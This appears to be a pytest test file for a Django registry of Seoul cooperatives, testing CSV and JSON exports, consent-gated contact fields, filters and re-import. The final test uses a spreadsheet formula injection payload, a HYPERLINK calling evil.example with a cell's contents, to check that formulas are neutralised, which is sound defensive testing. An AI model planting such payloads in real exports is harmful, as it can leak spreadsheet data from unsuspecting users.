"""The CSV and JSON exports: the import template's shape, consent, filters, streaming."""

import csv
import datetime
import io
import json

import pytest
from django.utils import timezone

from registry import vocab
from registry.exports import export_csv_response
from registry.models import Cooperative
from tests.registry.factories import CertificationFactory, CooperativeFactory, district

pytestmark = pytest.mark.django_db

HEADERS = [column.header_ko for column in vocab.EXPORT_COLUMNS]


def content(response) -> bytes:
    assert response.streaming
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict[str, str]]:
    data = content(response)
    assert data.startswith("\ufeff".encode())
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert header == HEADERS
    return [dict(zip(header, row, strict=True)) for row in rows]


def json_document(response) -> dict:
    return json.loads(content(response).decode("utf-8"))


@pytest.fixture
def coops():
    consenting = CooperativeFactory(
        name="마을두레협동조합",
        legal_type="social",
        member_type="worker",
        registration_no="2014-00042",
        registration_date=datetime.date(2014, 3, 5),
        incorporation_date=datetime.date(2014, 3, 20),
        status="not_operating",
        status_date=datetime.date(2020, 6, 30),
        status_reason="휴업",
        industry="P",
        ksic_class="85709",
        main_business='마을 교육, "두레" 프로그램',
        address="서울특별시 마포구 월드컵로 1",
        district=district("11440"),
        members=1280,
        members_as_of=datetime.date(2019, 12, 31),
        capital_krw=31_500_000,
        capital_as_of=datetime.date(2019, 11, 30),
        source="서울시",
        source_record_id="SEOUL-42",
        data_as_of=datetime.date(2020, 7, 1),
        contact_consent=True,
        phone="02-123-4567",
        email="hello@dure.example",
        website="https://dure.example",
    )
    private = CooperativeFactory(
        name="햇살협동조합",
        member_type="",
        industry="",
        members=None,
        capital_krw=None,
        registration_date=None,
        phone="010-0000-0000",
        email="secret@example.org",
        website="https://secret.example",
    )
    CertificationFactory(
        cooperative=consenting,
        kind="village_enterprise",
        certified_on=datetime.date(2016, 1, 1),
        expires_on=datetime.date(2018, 12, 31),
    )
    return consenting, private


def test_csv_is_utf8_with_bom_in_the_template_columns(client, coops):
    response = client.get("/registry/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["X-Robots-Tag"] == "noindex"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="seoul-cooperatives-{today}.csv"'
    )
    rows = csv_rows(response)
    assert [row["조합명"] for row in rows] == ["마을두레협동조합", "햇살협동조합"]


def test_csv_values_are_written_as_the_importer_reads_them(client, coops):
    consenting, private = csv_rows(client.get("/registry/export.csv"))
    assert consenting == {
        "조합명": "마을두레협동조합",
        "유형": "사회적협동조합",
        "조합원유형": "직원",
        "신고번호": "2014-00042",
        "신고수리일": "2014-03-05",
        "업종": "P",
        "주요사업": '마을 교육, "두레" 프로그램',
        "소재지도로명주소": "서울특별시 마포구 월드컵로 1",
        "자치구": "마포구",
        "조합원수": "1280",
        "출자금": "31500000",
        "상태": "미운영",
        "데이터기준일자": "2020-07-01",
        "법인설립일": "2014-03-20",
        "상태변경일": "2020-06-30",
        "상태사유": "휴업",
        "업종코드": "85709",
        "조합원수기준일": "2019-12-31",
        "출자금기준일": "2019-11-30",
        "전화번호": "02-123-4567",
        "이메일": "hello@dure.example",
        "홈페이지": "https://dure.example",
    }
    # Empty values stay empty; contact details without consent are never written.
    assert private["조합원유형"] == private["업종"] == private["신고수리일"] == ""
    assert private["조합원수"] == private["출자금"] == ""
    assert private["유형"] == "일반협동조합"
    assert private["상태"] == "운영"
    assert private["전화번호"] == private["이메일"] == private["홈페이지"] == ""
    body = content(client.get("/registry/export.csv")).decode("utf-8-sig")
    assert "010-0000-0000" not in body and "secret" not in body


def test_exports_apply_the_filters_and_the_sort(client, coops):
    CooperativeFactory(name="가람협동조합", registration_date=datetime.date(2013, 1, 1))
    rows = csv_rows(client.get("/registry/export.csv", {"q": "협동", "sort": "newest"}))
    assert [row["조합명"] for row in rows] == ["마을두레협동조합", "가람협동조합", "햇살협동조합"]
    rows = csv_rows(client.get("/registry/export.csv", {"q": "두레", "legal_type": "social"}))
    assert [row["조합명"] for row in rows] == ["마을두레협동조합"]
    document = json_document(client.get("/registry/export.json", {"district": "11680"}))
    assert document["count"] == 2
    assert {c["name"] for c in document["cooperatives"]} == {"햇살협동조합", "가람협동조합"}
    assert document["filters"] == {"district": "11680", "sort": "name"}


def test_json_has_the_documented_shape(client, coops):
    consenting, _private = coops
    response = client.get("/en/registry/export.json", {"q": "협동조합", "year_from": "2014"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["X-Robots-Tag"] == "noindex"
    assert response["Content-Disposition"].endswith('.json"')
    document = json_document(response)
    assert list(document) == ["as_of", "count", "filters", "cooperatives"]
    assert document["as_of"] == "2020-07-01"
    assert document["count"] == 1
    assert document["filters"] == {"q": "협동조합", "year_from": 2014, "sort": "name"}
    [record] = document["cooperatives"]
    assert record == {
        "id": consenting.pk,
        "name": "마을두레협동조합",
        "legal_type": "social",
        "member_type": "worker",
        "registration_no": "2014-00042",
        "registration_date": "2014-03-05",
        "incorporation_date": "2014-03-20",
        "status": "not_operating",
        "status_date": "2020-06-30",
        "industry": "P",
        "ksic_class": "85709",
        "main_business": '마을 교육, "두레" 프로그램',
        "address": "서울특별시 마포구 월드컵로 1",
        "district": {"code": "11440", "name_ko": "마포구", "name_en": "Mapo-gu"},
        "members": 1280,
        "members_as_of": "2019-12-31",
        "capital_krw": 31_500_000,
        "capital_as_of": "2019-11-30",
        "certifications": [
            {"kind": "village_enterprise", "certified_on": "2016-01-01", "expires_on": "2018-12-31"}
        ],
        "contact": {
            "phone": "02-123-4567",
            "email": "hello@dure.example",
            "website": "https://dure.example",
        },
        "source": "서울시",
        "source_record_id": "SEOUL-42",
        "data_as_of": "2020-07-01",
        "url": f"http://testserver/en/registry/{consenting.pk}/",
    }


def test_json_leaves_contact_out_without_consent(client, coops):
    document = json_document(client.get("/registry/export.json", {"q": "햇살"}))
    [record] = document["cooperatives"]
    assert "contact" not in record
    assert record["members"] is None and record["registration_date"] is None
    assert record["certifications"] == []
    assert "secret" not in json.dumps(document)


def test_json_of_an_empty_selection_is_valid(client):
    document = json_document(client.get("/registry/export.json", {"status": "cancelled"}))
    assert document == {
        "as_of": None,
        "count": 0,
        "filters": {"status": "cancelled", "sort": "name"},
        "cooperatives": [],
    }


@pytest.mark.parametrize("url", ["/registry/export.csv", "/en/registry/export.csv"])
def test_csv_refuses_invalid_filters_with_a_message(client, url):
    response = client.get(url, {"legal_type": "bogus", "year_from": "abc"})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["X-Robots-Tag"] == "noindex"
    text = response.content.decode()
    assert "bogus" in text
    assert len(text.strip().splitlines()) == 3  # the heading and one line per field


def test_json_refuses_invalid_filters_with_a_message(client):
    response = client.get("/en/registry/export.json", {"q": "두" * 101, "members": "huge"})
    assert response.status_code == 400
    assert response["X-Robots-Tag"] == "noindex"
    errors = response.json()["errors"]
    assert any(line.startswith("Search: ") for line in errors)
    assert any(line.startswith("Members: ") for line in errors)


def test_exports_answer_only_get(client):
    assert client.post("/registry/export.csv").status_code == 405
    assert client.post("/registry/export.json").status_code == 405


def test_export_csv_response_takes_any_queryset_and_a_filename(coops):
    """The admin's export action calls it with the selected co-ops."""
    queryset = Cooperative.objects.filter(name="햇살협동조합")
    response = export_csv_response(queryset, filename="선택한-협동조합.csv")
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%EC%84%A0%ED%83%9D%ED%95%9C-"
        "%ED%98%91%EB%8F%99%EC%A1%B0%ED%95%A9.csv"
    )
    assert [row["조합명"] for row in csv_rows(response)] == ["햇살협동조합"]


@pytest.mark.parametrize("coops_count", [3, 30])
def test_exports_run_a_fixed_number_of_queries(client, django_assert_num_queries, coops_count):
    for _ in range(coops_count):
        CertificationFactory()
    # The district choices (to check the filters), then the rows in one cursor.
    with django_assert_num_queries(2):
        assert len(csv_rows(client.get("/registry/export.csv"))) == coops_count
    # The district choices are cached by now: the count and date of the set, then the rows
    # and their certifications (one query per 2,000 rows each).
    with django_assert_num_queries(3):
        document = json_document(client.get("/registry/export.json"))
    assert len(document["cooperatives"]) == coops_count


def test_an_export_re_imports_unchanged(client, coops):
    from registry.importer import cooperatives_import

    CooperativeFactory(name="가람협동조합", status="dissolved", legal_type="mixed_federation")
    exported = content(client.get("/registry/export.csv"))
    before = list(Cooperative.objects.order_by("pk").values())
    report = cooperatives_import(file=exported, filename="export.csv", source="서울시")
    assert report.errors == []
    assert (report.created, report.updated, report.unchanged) == (0, 0, 3)
    assert list(Cooperative.objects.order_by("pk").values()) == before


def test_formulas_are_neutralised_and_an_export_reimports_unchanged(client):
    from registry.importer import cooperatives_import

    names = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "-minus", "@at", "+plus"]
    for name in names:
        CooperativeFactory(name=name, main_business="=1+1")
    response = export_csv_response(Cooperative.objects.order_by("pk"), filename="x.csv")
    body = content(response)
    rows = csv_rows(export_csv_response(Cooperative.objects.order_by("pk"), filename="x.csv"))
    assert [row["조합명"] for row in rows] == ["'" + name for name in names]
    assert {row["주요사업"] for row in rows} == {"'=1+1"}

    before = list(Cooperative.objects.order_by("pk").values())
    report = cooperatives_import(file=body, filename="export.csv")
    assert (report.unchanged, report.created, report.updated, report.rejected) == (4, 0, 0, 0)
    assert list(Cooperative.objects.order_by("pk").values()) == before
